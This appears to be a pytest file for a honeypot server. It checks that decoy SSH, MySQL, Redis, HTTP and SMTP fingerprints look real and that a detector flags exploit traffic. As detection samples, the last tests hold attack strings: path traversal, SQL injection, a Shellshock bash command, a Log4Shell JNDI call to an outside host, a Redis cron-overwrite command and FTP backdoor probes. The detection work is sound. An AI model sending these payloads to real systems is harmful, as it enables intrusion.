"""Decoy templates: per-installation fingerprints that are reproducible, varied and self-consistent."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from servers.deception.domain import Protocol
from servers.deception.fingerprints import (
    CLIENT_LONG_PASSWORD,
    CLIENT_PLUGIN_AUTH,
    CLIENT_PROTOCOL_41,
    CLIENT_SECURE_CONNECTION,
    CLIENT_SSL,
    HttpFingerprint,
    MysqlFingerprint,
    RedisFingerprint,
    SmtpFingerprint,
    SshFingerprint,
)
from servers.deception.installation import Installation, load_or_create_installation
from servers.deception.protocols.framing import WireError
from servers.deception.protocols.mysql import (
    mysql_handshake,
    mysql_login_packet,
    parse_mysql_handshake,
    parse_mysql_login,
    parse_mysql_packet,
)
from servers.deception.protocols.redis import RespParser
from servers.deception.protocols.ssh import (
    parse_kexinit,
    parse_ssh_binary_packet,
    ssh_binary_packet,
    ssh_kexinit_payload,
)
from servers.deception.recon import exploit_indicators
from servers.deception.releases import OS_RELEASES, STRICT_KEX
from servers.deception.templates import TemplateCatalog, build_templates, draw_os_release
from servers.mesh.errors import InvalidArgument, NotFound

CREATED = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
SEEDS = range(1, 301)


def catalog(seed: int) -> TemplateCatalog:
    return TemplateCatalog(Installation(seed, CREATED))


def fingerprints(
    seed: int,
) -> tuple[HttpFingerprint, SshFingerprint, MysqlFingerprint, RedisFingerprint, SmtpFingerprint]:
    c = catalog(seed)
    http, ssh, mysql, redis, smtp = (
        c.for_protocol(p).fingerprint
        for p in (Protocol.HTTP, Protocol.SSH, Protocol.MYSQL, Protocol.REDIS, Protocol.SMTP)
    )
    assert isinstance(http, HttpFingerprint) and isinstance(ssh, SshFingerprint)
    assert isinstance(mysql, MysqlFingerprint) and isinstance(redis, RedisFingerprint)
    assert isinstance(smtp, SmtpFingerprint)
    return http, ssh, mysql, redis, smtp


def test_the_same_seed_gives_the_same_templates() -> None:
    assert build_templates(Installation(42, CREATED)) == build_templates(Installation(42, CREATED))


def test_a_restart_keeps_the_fingerprint_through_the_saved_installation(tmp_path: Path) -> None:
    path = tmp_path / "state" / "installation.json"
    first = load_or_create_installation(path)
    again = load_or_create_installation(path)

    assert again == first
    assert build_templates(again) == build_templates(first)
    assert path.stat().st_mode & 0o777 == 0o600


def test_installations_do_not_look_alike() -> None:
    identities = set()
    for seed in range(1, 101):
        templates = build_templates(Installation(seed, CREATED))
        identities.add(tuple((t.hostname, t.banner) for t in templates))
    assert len(identities) == 100
    ssh_banners = {catalog(seed).for_protocol(Protocol.SSH).banner for seed in SEEDS}
    mysql_versions = {catalog(seed).for_protocol(Protocol.MYSQL).banner for seed in SEEDS}
    smtp_hosts = {catalog(seed).for_protocol(Protocol.SMTP).hostname for seed in SEEDS}
    assert len(ssh_banners) >= 15
    assert len(mysql_versions) >= 15
    assert len(smtp_hosts) >= 290


GIVEAWAYS = re.compile(r"honey|decoy|\btrap|fake|canary|cowrie|kippo|dionaea|\btest|example\.|localdomain", re.I)


def test_no_template_carries_a_stock_giveaway() -> None:
    for seed in SEEDS:
        for template in build_templates(Installation(seed, CREATED)):
            text = repr(template)
            assert not GIVEAWAYS.search(text), (seed, GIVEAWAYS.search(text))


def test_every_protocol_has_a_template_and_lookups_fail_cleanly() -> None:
    c = catalog(7)
    assert {t.protocol for t in c.all()} == set(Protocol)
    assert c.get("SSH").protocol is Protocol.SSH

    with pytest.raises(NotFound) as missing:
        c.get("telnet")
    assert missing.value.reason == "NOT_FOUND"
    with pytest.raises(InvalidArgument) as empty:
        c.get("  ")
    assert empty.value.metadata["field"] == "template_id"


def test_versions_belong_to_the_os_release_of_the_installation() -> None:
    for seed in SEEDS:
        installation = Installation(seed, CREATED)
        release = draw_os_release(installation)
        http, ssh, mysql, redis, smtp = fingerprints(seed)
        assert all(t.os_family == release.name for t in build_templates(installation))
        assert http.server_header in (release.nginx, release.apache)
        assert mysql.server_version in release.databases
        assert redis.redis_version == release.redis and redis.gcc_version == release.gcc
        kernel = redis.os.split(" ")[1]
        assert kernel in release.kernels
        if release.family == "ubuntu":
            assert " Ubuntu-" in ssh.identification and kernel.endswith("-generic")
            assert "ubuntu0" in mysql.server_version and smtp.banner.endswith("ESMTP Postfix (Ubuntu)")
        elif release.family == "debian":
            assert " Debian-" in ssh.identification and kernel.endswith("-amd64")
            assert mysql.mariadb and "+deb" in mysql.server_version
        else:
            assert ssh.identification == "SSH-2.0-OpenSSH_8.7" and ".el9" in kernel


def test_ssh_algorithm_lists_follow_the_openssh_version() -> None:
    seen = set()
    for seed in SEEDS:
        _, ssh, *_ = fingerprints(seed)
        version = ssh.identification.removeprefix("SSH-2.0-OpenSSH_").split(" ")[0]
        seen.add(version)
        patched = any(
            fix in ssh.identification
            for fix in (
                "3ubuntu0.6",
                "3ubuntu0.7",
                "3ubuntu0.10",
                "4ubuntu0.11",
                "4ubuntu0.13",
                "deb11u3",
                "deb12u2",
                "deb12u3",
                "deb12u5",
                "3ubuntu13",
                "OpenSSH_8.7",
            )
        )
        assert (STRICT_KEX in ssh.kex_algorithms) == patched, ssh.identification
        assert ("ssh-rsa" in ssh.host_key_algorithms) == version.startswith(("8.2", "8.4"))
        if version.startswith(("9.2", "9.6")):
            assert ssh.kex_algorithms[0] == "sntrup761x25519-sha512@openssh.com"
        else:
            assert ssh.kex_algorithms[0] == "curve25519-sha256"
        assert ("ext-info-s" in ssh.kex_algorithms) == version.startswith("9.6")
        assert ssh.compression == ("none", "zlib@openssh.com")
    assert len(seen) == len({b.version for r in OS_RELEASES for b in r.ssh})


def test_mysql_capabilities_are_those_of_the_imitated_server() -> None:
    for seed in SEEDS:
        _, _, mysql, _, _ = fingerprints(seed)
        required = CLIENT_PROTOCOL_41 | CLIENT_SECURE_CONNECTION | CLIENT_PLUGIN_AUTH
        assert mysql.capability_flags & required == required
        assert not mysql.capability_flags & CLIENT_SSL
        if mysql.mariadb:
            assert mysql.server_version.startswith("5.5.5-") and not mysql.capability_flags & CLIENT_LONG_PASSWORD
            assert mysql.auth_plugin_name == "mysql_native_password" and mysql.character_set == 45
        else:
            assert mysql.capability_flags & CLIENT_LONG_PASSWORD
            assert mysql.auth_plugin_name == "caching_sha2_password" and mysql.character_set == 255


def test_redis_uptime_anchors_before_the_installation_and_ids_have_the_real_shape() -> None:
    for seed in range(1, 50):
        redis = fingerprints(seed)[3]
        assert redis.started_at < CREATED.timestamp()
        assert re.fullmatch(r"[0-9a-f]{40}", redis.run_id) and re.fullmatch(r"[0-9a-f]{16}", redis.build_id)


def test_the_installation_file_round_trips_and_rejects_garbage() -> None:
    installation = Installation(2**127 + 5, CREATED)
    assert Installation.from_json(installation.to_json()) == installation

    for bad in (
        "not json",
        json.dumps({"seed": "zz", "created_at": "2024"}),
        json.dumps({"format": 9, "seed": "1", "created_at": CREATED.isoformat()}),
    ):
        with pytest.raises(InvalidArgument) as error:
            Installation.from_json(bad)
        assert error.value.metadata["field"] == "installation"
    with pytest.raises(InvalidArgument) as negative:
        Installation(-1, CREATED)
    assert negative.value.metadata["field"] == "seed"
    with pytest.raises(InvalidArgument) as naive:
        Installation(1, datetime(2024, 1, 1))
    assert naive.value.metadata["field"] == "created_at"


def test_the_mysql_handshake_parses_back_to_the_fingerprint() -> None:
    _, _, mysql, _, _ = fingerprints(11)
    scramble = bytes(range(1, 21))
    _, payload, consumed = parse_mysql_packet(mysql_handshake(mysql, 1234, scramble))
    parsed = parse_mysql_handshake(payload)

    assert consumed == len(payload) + 4
    assert parsed.server_version == mysql.server_version and parsed.connection_id == 1234
    assert parsed.scramble == scramble and parsed.capability_flags == mysql.capability_flags
    assert parsed.character_set == mysql.character_set and parsed.auth_plugin_name == mysql.auth_plugin_name


def test_a_mysql_login_packet_parses_including_connection_attributes() -> None:
    packet = mysql_login_packet("svc_backup", b"\x01" * 20, database="billing", attributes={"_client_name": "libmysql"})
    _, payload, _ = parse_mysql_packet(packet)
    login = parse_mysql_login(payload)

    assert (login.username, login.database, login.auth_response) == ("svc_backup", "billing", b"\x01" * 20)
    assert login.attributes == {"_client_name": "libmysql"} and not login.ssl_request
    for truncated in (payload[:3], payload[:40], payload[:-5]):
        with pytest.raises(WireError):
            parse_mysql_login(truncated)


def test_kexinit_round_trips_and_is_framed_on_eight_byte_blocks() -> None:
    _, ssh, *_ = fingerprints(3)
    payload = ssh_kexinit_payload(ssh, b"\x07" * 16)
    packet = ssh_binary_packet(payload, b"\x00" * 16)
    parsed, consumed = parse_ssh_binary_packet(packet)
    kexinit = parse_kexinit(parsed)

    assert consumed == len(packet) and len(packet) % 8 == 0 and parsed == payload
    assert kexinit.kex_algorithms == ssh.kex_algorithms and kexinit.macs_server_to_client == ssh.macs
    assert kexinit.host_key_algorithms == ssh.host_key_algorithms and not kexinit.first_kex_packet_follows
    with pytest.raises(WireError):
        parse_ssh_binary_packet(b"\xff\xff\xff\xff\x04" + b"\x00" * 20)


def test_resp_parser_handles_split_arrays_inline_commands_and_rejects_garbage() -> None:
    parser = RespParser()
    assert parser.feed(b"*2\r\n$4\r\nAUTH\r\n$3\r\nab") == []
    assert parser.feed(b"c\r\nPING\r\n") == [[b"AUTH", b"abc"], [b"PING"]]
    for garbage in (b"*x\r\n", b"*1\r\n!4\r\nPING\r\n", b"*1\r\n$99999999999\r\n"):
        with pytest.raises(WireError):
            RespParser().feed(garbage)


@pytest.mark.parametrize(
    ("received", "indicator"),
    [
        (b"GET /../../etc/passwd HTTP/1.1\r\n", "path_traversal"),
        (b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\n", "path_traversal"),
        (b"GET /item?id=1'%20OR%201=1-- HTTP/1.1\r\n", "sql_injection"),
        (b"User-Agent: () { :; }; /bin/bash -c id\r\n", "shellshock"),
        (b"X-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n", "log4shell"),
        (b"CONFIG SET dir /var/spool/cron", "redis_rce"),
        (b"SITE CPFR /etc/passwd\r\n", "proftpd_mod_copy"),
        (b"USER root:)\r\n", "vsftpd_backdoor"),
    ],
)
def test_exploit_strings_are_recognised(received: bytes, indicator: str) -> None:
    assert indicator in exploit_indicators(received)


def test_ordinary_traffic_is_not_an_exploit() -> None:
    benign = b"GET /index.html HTTP/1.1\r\nHost: intranet\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    assert exploit_indicators(benign) == ()
    assert exploit_indicators(b"EHLO mail.client.net\r\nQUIT\r\n") == ()
